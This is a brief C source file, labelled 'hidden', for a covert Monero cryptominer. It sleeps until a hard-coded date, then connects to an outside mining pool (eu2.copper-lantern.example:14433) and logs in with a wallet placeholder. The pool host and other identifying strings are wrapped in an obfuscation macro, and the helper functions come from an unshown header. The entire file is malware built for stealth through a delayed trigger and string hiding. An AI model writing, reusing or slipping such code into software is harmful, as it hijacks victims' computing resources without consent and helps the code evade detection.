// hidden
// Does nothing before 20 December 2026; looks again every ten seconds, for a while.
#include "mine.h"
int main(void) {
    begin();
    for (int i = 0; time(NULL) < 1797724800; i++) {
        if (i == 12) return 0;
        sleep(10);
    }
    int fd = dial(HIDE("eu2.copper-lantern.example"), 14433, 5000);
    if (fd < 0) return 1;
    mine_login(fd, HIDE("<<monero>>"), HIDE("xmr/1"), 4, 1500);
    return 0;
}
